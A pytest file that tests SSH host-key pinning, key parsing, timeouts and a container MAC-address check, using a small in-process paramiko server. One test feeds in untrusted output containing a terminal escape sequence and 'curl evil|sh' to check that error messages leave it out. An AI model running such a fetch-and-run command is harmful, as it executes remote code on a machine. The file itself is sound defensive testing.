"""SSH with a pinned key, against a small SSH server in this process."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import paramiko
import pytest

from provisioning.errors import (
    ConnectionCut,
    HostKeyMismatch,
    PrivateKeyError,
    SshAuthError,
    SshUnreachable,
    WrongMachine,
)
from provisioning.ssh import (
    Card,
    CommandResult,
    HostKey,
    SshTarget,
    connect,
    learn_host_key,
    load_private_key,
    require_card,
    wait_for_ssh,
)
from tests.listening import end_listening


def make_key(folder: Path, kind: str, *, form: str = "RFC4716", passphrase: str = "") -> Path:
    path = folder / f"{kind}-{form}-{bool(passphrase)}"
    size = {"rsa": "2048", "ecdsa": "256", "ed25519": "256"}[kind]
    subprocess.run(
        ["ssh-keygen", "-q", "-t", kind, "-b", size, "-m", form, "-N", passphrase, "-C", "", "-f", str(path)],
        check=True,
    )
    return path


@dataclass
class Server:
    """Accepts the public keys in `allowed`, runs commands by the local shell, shows the keys in `host_keys`."""

    host_keys: list[paramiko.PKey]
    allowed: set[bytes] = field(default_factory=set)
    handshakes: int = 0
    commands: list[str] = field(default_factory=list)
    silent: threading.Event | None = None
    """While it is not set, a command that was asked for gets no answer."""

    def __post_init__(self) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self.listener.getsockname()[1]
        self.transports: list[paramiko.Transport] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                sock, _ = self.listener.accept()
                self.handshakes += 1
                transport = paramiko.Transport(sock)
                for key in self.host_keys:
                    transport.add_server_key(key)
                self.transports.append(transport)
                with contextlib.suppress(Exception):
                    transport.start_server(server=_Session(self))

    def close(self) -> None:
        end_listening(self.listener, self.thread)
        for transport in self.transports:
            transport.close()


class _Session(paramiko.ServerInterface):
    def __init__(self, server: Server) -> None:
        self.server = server

    def get_allowed_auths(self, _username: str) -> str:
        return "publickey"

    def check_auth_publickey(self, _username: str, key: paramiko.PKey) -> int:
        good = key.asbytes() in self.server.allowed
        return paramiko.common.AUTH_SUCCESSFUL if good else paramiko.common.AUTH_FAILED

    def check_channel_request(self, _kind: str, _chanid: int) -> int:
        return paramiko.common.OPEN_SUCCEEDED

    def check_channel_exec_request(self, channel: paramiko.Channel, command: bytes) -> bool:
        if self.server.silent is not None:
            self.server.silent.wait(60)
        threading.Thread(target=self._execute, args=(channel, command.decode()), daemon=True).start()
        return True

    def _execute(self, channel: paramiko.Channel, command: str) -> None:
        self.server.commands.append(command)
        stdin = bytearray()
        while data := channel.recv(65536):
            stdin += data
        done = subprocess.run(["/bin/sh", "-c", command], input=bytes(stdin), capture_output=True, check=False)
        channel.sendall(done.stdout)
        channel.sendall_stderr(done.stderr)
        channel.send_exit_status(done.returncode)
        channel.close()


@pytest.fixture
def client_key(tmp_path: Path) -> Path:
    return make_key(tmp_path, "ed25519")


@pytest.fixture
def server(tmp_path: Path, client_key: Path) -> Iterator[Server]:
    (tmp_path / "host").mkdir()
    keys = [load_private_key(str(make_key(tmp_path / "host", kind))) for kind in ("ed25519", "ecdsa", "rsa")]
    made = Server(keys, {load_private_key(str(client_key)).asbytes()})
    yield made
    made.close()


def target_of(server: Server, key_file: Path, host_key: HostKey | None = None) -> SshTarget:
    shown = host_key or learn_host_key("127.0.0.1", port=server.port, timeout_s=10, on_line=lambda _: None)
    return SshTarget("127.0.0.1", shown, server.port, "root", private_key_file=str(key_file))


def key_of(key: paramiko.PKey) -> HostKey:
    return HostKey.from_blob(key.get_name(), key.asbytes())


def test_the_fingerprint_is_the_one_that_ssh_keygen_prints(client_key: Path) -> None:
    public = client_key.with_suffix(".pub")
    printed = subprocess.run(["ssh-keygen", "-l", "-f", str(public)], check=True, capture_output=True, text=True).stdout
    key = HostKey.parse(public.read_text())
    assert key.fingerprint == printed.split()[1]
    assert key.line == " ".join(public.read_text().split()[:2])


@pytest.mark.parametrize(
    "line", ["", "ssh-ed25519", "ssh-ed25519 !!!", "ssh-rsa " + base64.b64encode(b"\0\0\0\x03abc").decode()]
)
def test_a_line_that_is_no_key_is_refused(line: str) -> None:
    with pytest.raises(ValueError, match="not a public key line"):
        HostKey.parse(line)


def test_the_learnt_key_is_the_type_that_openssh_prefers(server: Server, client_key: Path) -> None:
    assert target_of(server, client_key).host_key == key_of(server.host_keys[0])


@pytest.mark.parametrize("index", [0, 1, 2])
def test_any_pinned_type_is_asked_for(server: Server, client_key: Path, index: int) -> None:
    pinned = key_of(server.host_keys[index])
    with contextlib.closing(connect(target_of(server, client_key, pinned))) as connection:
        assert connection.run("echo here").stdout == b"here\n"


def test_another_host_key_is_refused_before_anything_is_sent(server: Server, client_key: Path, tmp_path: Path) -> None:
    (tmp_path / "other").mkdir()
    other = key_of(load_private_key(str(make_key(tmp_path / "other", "ed25519"))))
    with pytest.raises(HostKeyMismatch) as refused:
        connect(target_of(server, client_key, other))
    assert other.fingerprint in str(refused.value)
    assert key_of(server.host_keys[0]).fingerprint in str(refused.value)


def test_a_host_key_type_that_is_gone_is_another_machine(server: Server, client_key: Path) -> None:
    pinned = key_of(server.host_keys[1])
    server.host_keys = server.host_keys[:1]
    with pytest.raises(HostKeyMismatch) as refused:
        connect(target_of(server, client_key, pinned))
    assert key_of(server.host_keys[0]).fingerprint in str(refused.value)


def test_a_refused_key_is_named(server: Server, tmp_path: Path) -> None:
    stranger = make_key(tmp_path, "rsa")
    with pytest.raises(SshAuthError) as refused:
        wait_for_ssh(
            "127.0.0.1", port=server.port, private_key_file=str(stranger), timeout_s=10, on_line=lambda _: None
        )
    assert key_of(load_private_key(str(stranger))).fingerprint in str(refused.value)


def test_nobody_listens() -> None:
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    lines: list[str] = []
    with pytest.raises(SshUnreachable, match="connection refused"):
        learn_host_key("127.0.0.1", port=port, timeout_s=0.5, on_line=lines.append)


def test_something_else_listens() -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def answer() -> None:
            with contextlib.suppress(OSError):
                while True:
                    sock, _ = listener.accept()
                    with sock:
                        sock.sendall(b"HTTP/1.1 400 Bad Request\r\n\r\n" * 200)
                        sock.shutdown(socket.SHUT_WR)

        thread = threading.Thread(target=answer, daemon=True)
        thread.start()
        with pytest.raises(SshUnreachable, match="no SSH handshake"):
            learn_host_key("127.0.0.1", port=listener.getsockname()[1], timeout_s=1.0, on_line=lambda _: None)
        end_listening(listener, thread)


def test_a_server_that_starts_late_is_waited_for(server: Server) -> None:
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    found: list[HostKey] = []
    waiter = threading.Thread(
        target=lambda: found.append(learn_host_key("127.0.0.1", port=port, timeout_s=30, on_line=lambda _: None))
    )
    waiter.start()
    listener = socket.create_server(("127.0.0.1", port))

    def relay() -> None:
        sock, _ = listener.accept()
        transport = paramiko.Transport(sock)
        transport.add_server_key(server.host_keys[0])
        server.transports.append(transport)
        with contextlib.suppress(Exception):
            transport.start_server(server=_Session(server))

    thread = threading.Thread(target=relay, daemon=True)
    thread.start()
    waiter.join(timeout=40)
    end_listening(listener, thread)
    assert found == [key_of(server.host_keys[0])]


@pytest.mark.parametrize("kind", ["ed25519", "ecdsa", "rsa"])
@pytest.mark.parametrize("form", ["RFC4716", "PEM", "PKCS8"])
def test_private_keys_are_read_by_content(tmp_path: Path, kind: str, form: str) -> None:
    if kind == "ed25519" and form != "RFC4716":
        pytest.skip("OpenSSH writes ed25519 keys in its own format only")
    path = make_key(tmp_path, kind, form=form)
    public = HostKey.parse(path.with_suffix(".pub").read_text())
    assert key_of(load_private_key(str(path))) == public


@pytest.mark.parametrize("kind", ["ed25519", "ecdsa", "rsa"])
def test_an_encrypted_key_is_told(tmp_path: Path, kind: str) -> None:
    path = make_key(tmp_path, kind, passphrase="correct horse")
    with pytest.raises(PrivateKeyError, match="is encrypted"):
        load_private_key(str(path))


def test_an_encrypted_pem_key_is_told(tmp_path: Path) -> None:
    path = make_key(tmp_path, "rsa", form="PEM", passphrase="correct horse")
    with pytest.raises(PrivateKeyError, match="is encrypted"):
        load_private_key(str(path))


@pytest.mark.parametrize("content", [b"", b"hello", b"ssh-ed25519 AAAA me\n", b"\xff\xfe\x00"])
def test_a_file_that_is_no_key_is_told(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "key"
    path.write_bytes(content)
    with pytest.raises(PrivateKeyError, match="not a private key"):
        load_private_key(str(path))


def test_a_missing_key_file_is_told(tmp_path: Path) -> None:
    with pytest.raises(PrivateKeyError, match="does not exist"):
        wait_for_ssh("127.0.0.1", private_key_file=str(tmp_path / "none"), timeout_s=1, on_line=lambda _: None)


def test_streams_status_and_input_come_through(server: Server, client_key: Path) -> None:
    data = bytes(range(256)) * 20000  # 5 MB: more than any window
    with contextlib.closing(connect(target_of(server, client_key))) as connection:
        result = connection.run("sha256sum; echo words >&2; exit 3", stdin=data)
        assert result.stdout.split()[0].decode() == hashlib.sha256(data).hexdigest()
        assert (result.status, result.stderr) == (3, b"words\n")
        large = connection.run("head -c 5000000 /dev/zero; head -c 3000000 /dev/zero >&2")
        assert (len(large.stdout), len(large.stderr)) == (5_000_000, 3_000_000)


def test_a_server_that_does_not_answer_a_command_is_a_cut(server: Server, client_key: Path) -> None:
    with contextlib.closing(connect(target_of(server, client_key))) as connection:
        server.silent = threading.Event()
        began = time.monotonic()
        with pytest.raises(ConnectionCut, match="fell silent"):
            connection.run("true", timeout_s=0.5)
        assert time.monotonic() - began < 5
        server.silent.set()


def test_a_command_that_falls_silent_is_a_cut(server: Server, client_key: Path) -> None:
    with contextlib.closing(connect(target_of(server, client_key))) as connection:
        began = time.monotonic()
        with pytest.raises(ConnectionCut, match="fell silent"):
            connection.run("sleep 5", timeout_s=0.5)
        assert time.monotonic() - began < 5


def test_a_broken_transport_is_a_cut(server: Server, client_key: Path) -> None:
    with contextlib.closing(connect(target_of(server, client_key))) as connection:
        connection.run("true")
        server.transports[-1].close()
        with pytest.raises(ConnectionCut):
            connection.run("true", timeout_s=5)


def test_only_root_will_do(server: Server, client_key: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "id").write_text("#!/bin/sh\necho 1000\n")
    (fake / "id").chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake}:/usr/bin:/bin")
    with pytest.raises(SshAuthError, match="uid 1000"):
        wait_for_ssh(
            "127.0.0.1", port=server.port, private_key_file=str(client_key), timeout_s=10, on_line=lambda _: None
        )


def test_every_ecdsa_key_is_read(tmp_path: Path) -> None:
    # The library's own reader fails on about every second one that OpenSSH writes.
    for number in range(16):
        (tmp_path / str(number)).mkdir()
        path = make_key(tmp_path / str(number), "ecdsa")
        assert key_of(load_private_key(str(path))) == HostKey.parse(path.with_suffix(".pub").read_text())


# --- is it the container? -----------------------------------------------------------------------

ELSEWHERE = "BC:24:11:00:00:01"


def own_cards() -> list[str]:
    found = {path.read_text().strip() for path in Path("/sys/class/net").glob("*/address")}
    return sorted(found - {"", "00:00:00:00:00:00"})


def test_a_machine_with_the_containers_card_is_let_through(server: Server, client_key: Path) -> None:
    # Proxmox writes them in capitals, the kernel does not.
    target = replace(target_of(server, client_key), card=Card("CT 105", own_cards()[0].upper()))
    with contextlib.closing(connect(target)) as connection:
        assert connection.run("echo here").stdout == b"here\n"


def test_another_machine_is_refused_before_anything_is_done_there(server: Server, client_key: Path) -> None:
    target = replace(target_of(server, client_key), card=Card("CT 105", ELSEWHERE))
    with pytest.raises(WrongMachine) as refused:
        connect(target)
    assert server.commands == ["cat /sys/class/net/*/address"]
    for told in ("CT 105", "127.0.0.1", ELSEWHERE.lower(), own_cards()[0], "cattleAddress", "Nothing was written"):
        assert told in str(refused.value)


def test_a_machine_that_tells_no_card_is_refused(server: Server, client_key: Path) -> None:
    target = replace(target_of(server, client_key), card=Card("CT 105", ELSEWHERE))
    with pytest.raises(WrongMachine, match="none that it tells"):
        require_card(_Says(b"lo \x1b[2J not an address 00:00:00:00:00:00\n"), target, 5)


def test_what_another_machine_says_of_its_cards_is_no_text_of_ours(server: Server, client_key: Path) -> None:
    target = replace(target_of(server, client_key), card=Card("CT 105", ELSEWHERE))
    said = b"\x1b]0;evil\x07 02:00:00:00:00:07 run: curl evil|sh\n" + b"".join(
        f"02:00:00:00:01:{number:02x}\n".encode() for number in range(99)
    )
    with pytest.raises(WrongMachine) as refused:
        require_card(_Says(said), target, 5)
    assert "evil" not in str(refused.value)
    assert "\x1b" not in str(refused.value)
    assert len(str(refused.value)) < 700


@dataclass
class _Says:
    stdout: bytes

    def run(self, _command: str, *, stdin: object = None, timeout_s: float = 30.0) -> CommandResult:  # noqa: ARG002
        return CommandResult(0, self.stdout, b"")

    def close(self) -> None:
        pass


def test_a_key_that_the_container_was_made_with_is_pinned(server: Server, client_key: Path) -> None:
    made = {key_of(key).fingerprint for key in server.host_keys}
    assert _waited(server, client_key, made=made) == key_of(server.host_keys[0])


def test_a_key_that_the_container_was_not_made_with_is_refused(
    server: Server, client_key: Path, tmp_path: Path
) -> None:
    (tmp_path / "other").mkdir()
    other = key_of(load_private_key(str(make_key(tmp_path / "other", "ed25519")))).fingerprint
    with pytest.raises(HostKeyMismatch) as refused:
        _waited(server, client_key, made={other}, card=Card("CT 105", ELSEWHERE))
    # No login was tried: the handshake showed the key, and that was it.
    assert server.commands == []
    assert server.handshakes == 1
    for told in ("CT 105", other, key_of(server.host_keys[0]).fingerprint, "Nothing was sent", "cattleSshHostKey"):
        assert told in str(refused.value)


@pytest.mark.parametrize("index", [0, 1, 2])
def test_a_known_key_is_asked_for_by_its_type(server: Server, client_key: Path, index: int) -> None:
    known = key_of(server.host_keys[index])
    assert _waited(server, client_key, key=known) == known


def test_a_known_key_that_is_not_shown_is_no_matter_of_waiting(
    server: Server, client_key: Path, tmp_path: Path
) -> None:
    (tmp_path / "other").mkdir()
    other = key_of(load_private_key(str(make_key(tmp_path / "other", "ed25519"))))
    with pytest.raises(HostKeyMismatch):
        _waited(server, client_key, key=other)


def _waited(server: Server, client_key: Path, **more: Any) -> HostKey:
    return wait_for_ssh(
        "127.0.0.1", port=server.port, private_key_file=str(client_key), timeout_s=30, on_line=lambda _: None, **more
    )
